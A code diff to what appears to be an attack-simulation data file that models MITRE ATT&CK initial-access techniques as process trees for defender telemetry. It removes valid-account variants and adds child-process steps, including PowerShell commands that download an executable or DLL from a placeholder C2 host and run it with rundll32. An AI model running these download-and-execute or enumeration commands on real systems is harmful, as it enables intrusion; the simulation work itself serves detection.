@@ -5,87 +5,6 @@ const WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
 
 /** Initial access: the first process a defender sees after the lure, exploit or login. */
 export const initialAccess = [
-  t("T1078", "Valid accounts", "A stolen domain account logging on remotely.", [
-    v(
-      "rdp-logon",
-      [
-        {
-          cmd: "mstsc.exe /v:{{srv}}",
-          net: [["@server", 3389]],
-          then: [
-            {
-              id: "l",
-              kind: "logon",
-              host: "@server",
-              session: "va",
-              user: "@user",
-              logonType: 10,
-              source: "@workstation",
-              authPackage: "Negotiate",
-            },
-          ],
-        },
-      ],
-      { shell: "none" },
-    ),
-  ]),
-  t("T1078.001", "Default accounts", "The built-in Administrator or Guest enabled and used.", [
-    v(
-      "enable-administrator",
-      [
-        {
-          cmd: "net user administrator /active:yes",
-          then: [{ id: "e", kind: "account.enable", user: "@admin" }],
-        },
-      ],
-      { elevated: true },
-    ),
-  ]),
-  t(
-    "T1078.002",
-    "Domain accounts",
-    "Domain credentials used over the network (type 3 logons, explicit credentials).",
-    [
-      v("net-use", [
-        {
-          cmd: "net use \\\\{{srv}}\\C$ /user:{{domain}}\\{{admin}} ********",
-          net: [["@server", 445]],
-          then: [
-            {
-              id: "e",
-              kind: "credentials.explicit",
-              targetUser: "@admin",
-              targetServer: "@server",
-              targetInfo: "{{srv}}",
-            },
-            {
-              id: "l",
-              kind: "logon",
-              host: "@server",
-              session: "da",
-              user: "@admin",
-              logonType: 3,
-              source: "@workstation",
-            },
-          ],
-        },
-      ]),
-      v("runas", [
-        {
-          cmd: "runas /user:{{domain}}\\{{admin}} cmd",
-          then: [{ id: "e", kind: "credentials.explicit", targetUser: "@admin", targetServer: "localhost" }],
-        },
-      ]),
-    ],
-  ),
-  t("T1078.003", "Local accounts", "A local account used with runas or a network logon.", [
-    v("runas-local", [
-      {
-        cmd: "runas /user:{{me}}\\administrator cmd.exe",
-        then: [{ id: "e", kind: "credentials.explicit", targetUser: "@admin", targetServer: "localhost" }],
-      },
-    ]),
-  ]),
   t(
     "T1091",
     "Replication through removable media",
@@ -198,7 +117,8 @@ export const initialAccess = [
             user: "@networkservice",
             keep: true,
           },
-          { cmd: 'cmd.exe /c "whoami /all"', parent: "w3", host: "@server" },
+          { cmd: 'cmd.exe /c "whoami /all"', parent: "w3", host: "@server", as: "c" },
+          { cmd: "whoami  /all", parent: "c", host: "@server" },
         ],
         { shell: "none" },
       ),
@@ -217,7 +137,14 @@ export const initialAccess = [
             cmd: 'cmd.exe /c powershell -nop -c "iwr http://{{c2}}/x.exe -OutFile C:\\Windows\\Temp\\x.exe"',
             parent: "tc",
             host: "@server",
+            as: "c",
+          },
+          {
+            cmd: 'powershell  -nop -c "iwr http://{{c2}}/x.exe -OutFile C:\\Windows\\Temp\\x.exe"',
+            parent: "c",
+            host: "@server",
             net: [["{{c2}}", 80]],
+            files: ["C:\\Windows\\Temp\\x.exe"],
           },
         ],
         { shell: "none" },
@@ -315,7 +242,8 @@ export const initialAccess = [
           parent: "@services",
           user: "@system",
         },
-        { cmd: 'cmd.exe /c net group "domain admins" /domain', parent: "a" },
+        { cmd: 'cmd.exe /c net group "domain admins" /domain', parent: "a", as: "c" },
+        { cmd: 'net  group "domain admins" /domain', parent: "c" },
       ],
       { shell: "none" },
     ),
@@ -397,7 +325,19 @@ export const initialAccess = [
           {
             cmd: 'cmd.exe /c powershell -w hidden -nop -c "iwr http://{{c2}}/{{rand}}.dll -OutFile $env:TEMP\\{{rand}}.dll; rundll32 $env:TEMP\\{{rand}}.dll,DllRegisterServer"',
             parent: "w",
+            as: "c",
+          },
+          {
+            cmd: 'powershell  -w hidden -nop -c "iwr http://{{c2}}/{{rand}}.dll -OutFile $env:TEMP\\{{rand}}.dll; rundll32 $env:TEMP\\{{rand}}.dll,DllRegisterServer"',
+            parent: "c",
+            as: "ps",
             net: [["{{c2}}", 80]],
+            files: ["{{tmp}}\\{{rand}}.dll"],
+          },
+          {
+            cmd: '"C:\\Windows\\system32\\rundll32.exe" {{tmp}}\\{{rand}}.dll,DllRegisterServer',
+            parent: "ps",
+            loads: ["{{tmp}}\\{{rand}}.dll"],
           },
         ],
         { shell: "none" },
